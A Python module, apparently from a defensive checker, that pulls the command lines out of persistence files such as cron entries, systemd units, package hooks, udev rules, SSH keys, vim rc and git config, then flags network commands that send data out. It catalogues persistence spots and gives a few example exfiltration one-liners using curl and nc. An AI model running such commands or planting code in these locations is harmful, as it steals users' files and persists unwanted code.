"""Code planted to run later: where the system picks it up, and the commands a planted file will run.

A startup location is any file or directory the system or a program reads and runs from later without
being asked: shell startup files and their `.d` directories, cron, systemd units, package-manager hooks
(apt `DPkg::Post-Invoke`, pacman `.hook`), udev `RUN+=`, desktop autostart entries, login scripts
(`~/.ssh/rc`, update-motd), VCS hooks, launchd agents, `ld.so.preload`. Each kind of file names its
commands differently; `planted_commands` returns the command lines from a file's text so they can be
judged like any command. What git runs from its configuration (`core.fsmonitor`, `core.pager`,
`alias.x = !cmd`, a `core.hooksPath` in a world-writable place) is planted the same way.
"""

from __future__ import annotations

import re

CRON_FIELDS = re.compile(r"^\s*(@\w+|(\S+\s+){5})")
EXEC_LINE = re.compile(r"^\s*Exec\w*\s*=\s*[-@:+!]*(.+)$", re.M)  # systemd units, desktop entries, pacman hooks
APT_HOOK = re.compile(r"(?:Pre|Post)-Invoke(?:-Success)?\s*\{([^}]*)\}", re.I)
UDEV_RUN = re.compile(r"\bRUN\s*\+?=\s*\"((?:[^\"\\]|\\.)*)\"")
KEY_COMMAND = re.compile(r"(?:^|,)\s*command=\"((?:[^\"\\]|\\.)*)\"")
VIM_SHELL = re.compile(r"^:*\s*(?:silent!?\s*|exe(?:cute)?\s*)?!(.+)$|^:*\s*call\s+system\(['\"](.+)['\"]\)")
QUOTED = re.compile(r"\"((?:[^\"\\]|\\.)*)\"")
# git configuration whose value is a command git runs (or, for hooksPath, a directory of commands)
GIT_COMMANDS = re.compile(
    r"^(core\.(fsmonitor|pager|editor|sshcommand|askpass)|sequence\.editor|diff\.external|gpg\.program"
    r"|credential\.helper|alias\.[\w.-]+|filter\.[\w.-]+\.(clean|smudge|process))$",
    re.I,
)
NETWORK = re.compile(r"\b(curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp)\b|/dev/(tcp|udp)/")
# A planted network command that takes something local with it: a substitution in its arguments, a file
# posted or uploaded, or input piped into the connection.
SENDS = re.compile(
    r"\$\(|`|\s-d\s*@|--data[\w-]*[= ]\s*@|\s-F\s|--form\b|\s-T\s|--upload-file|--post-file|\|\s*(nc|ncat|netcat)\b"
)


def kind_of(target: str) -> str:
    """How a startup location names what it runs: cron, unit (Exec lines), apt, udev, keys or shell."""
    if "cron" in target:
        return "cron"
    if re.search(r"/systemd/|\.service$|\.timer$|\.desktop$|/autostart/|\.hook$|/hooks\.d/|libalpm/hooks", target):
        return "unit"
    if "/apt/apt.conf" in target:
        return "apt"
    if "/udev/rules.d/" in target:
        return "udev"
    if re.search(r"authorized_keys2?$", target):
        return "keys"
    if re.search(r"\.(vimrc|exrc|gvimrc)$|/\.vim/|/nvim/", target):
        return "vim"
    return "shell"


def planted_commands(content: str, target: str) -> list[str]:
    """The command lines a file written to `target` will run."""
    kind = kind_of(target)
    if kind == "unit":
        return [m.strip() for m in EXEC_LINE.findall(content)]
    if kind == "apt":
        return [text for block in APT_HOOK.findall(content) for text in QUOTED.findall(block)]
    if kind == "udev":
        return UDEV_RUN.findall(content)
    if kind == "vim":  # `!CMD`, `silent !CMD`, `call system('CMD')` run a shell when the editor starts
        return [m.group(1) or m.group(2) for line in content.splitlines() if (m := VIM_SHELL.match(line.strip()))]
    if kind == "keys":
        return [m.replace('\\"', '"') for line in content.splitlines() for m in KEY_COMMAND.findall(line)]
    lines = content.splitlines()
    return [cron_command(line, target) for line in lines] if kind == "cron" else lines


def cron_command(line: str, target: str) -> str:
    line = CRON_FIELDS.sub("", line, count=1)
    if re.search(r"/etc/cron(tab|\.d/)", target):
        line = re.sub(r"^\s*\S+\s+", "", line, count=1)  # the user field of system crontabs
    return line


def sends_local_data(line: str) -> bool:
    """A network command that takes local data along: `curl -d @~/.bash_history URL`,
    `curl "URL?$(history 1)"`, `tar c ~ | nc HOST PORT`. `curl wttr.in` in an alias only fetches."""
    return NETWORK.search(line) is not None and SENDS.search(" " + line) is not None


def git_planted(args: list[str]) -> tuple[str, str] | None:
    """(key, value) of a `git config` that makes git run a command or a hooks directory."""
    words = [a for a in args if not a.startswith("-")]
    if len(words) < 3 or words[0] != "config":
        return None
    key, value = words[1], " ".join(words[2:])
    if key.lower() == "core.hookspath" or GIT_COMMANDS.match(key):
        return key, value
    return None
